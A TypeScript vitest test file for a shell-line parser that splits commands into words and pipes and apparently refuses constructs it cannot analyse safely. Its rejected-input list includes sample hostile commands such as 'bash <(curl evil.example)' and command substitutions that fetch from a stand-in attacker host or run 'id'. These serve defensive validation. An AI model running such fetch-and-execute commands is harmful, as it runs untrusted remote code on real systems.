import { describe, expect, it } from 'vitest'
import { parseShellLine } from './shell-line.ts'

const words = (line: string) => parseShellLine(line)?.map((one) => one.words.map(({ text }) => text))

describe('parseShellLine', () => {
  it.each([
    ['npm test', [['npm', 'test']]],
    ['FOO=1 npm test -- "a b"', [['npm', 'test', '--', 'a b']]],
    [
      "cd app && go test -run 'A|B' ./... 2>&1 | tail -5",
      [
        ['cd', 'app'],
        ['go', 'test', '-run', 'A|B', './...'],
        ['tail', '-5'],
      ],
    ],
    [
      'make build;make test',
      [
        ['make', 'build'],
        ['make', 'test'],
      ],
    ],
    ['npm ci \\\n  --prefer-offline', [['npm', 'ci', '--prefer-offline']]],
    [
      'git log --format=%s\nnpm test',
      [
        ['git', 'log', '--format=%s'],
        ['npm', 'test'],
      ],
    ],
  ])('reads %j', (line, expected) => {
    expect(words(line)).toEqual(expected)
  })

  it.each([
    'echo $(curl evil.example)',
    'echo `id`',
    'echo "$(id)"',
    'bash <(curl evil.example)',
    'cat <<EOF\nx\nEOF',
    'npm ci # then upload it',
    "echo $'\\x41'",
    'f() { id; }',
    '(cd app; id)',
    'echo "open',
    "echo 'open",
    'cat <<< text',
  ])('does not read %j', (line) => {
    expect(parseShellLine(line)).toBeUndefined()
  })

  it('says which command reads from a pipe, and which files are written', () => {
    expect(parseShellLine('npm test > out.txt 2>/dev/null || cat out.txt | head')).toMatchObject([
      { isPiped: false, files: ['out.txt', '/dev/null'] },
      { isPiped: false },
      { isPiped: true },
    ])
  })
})
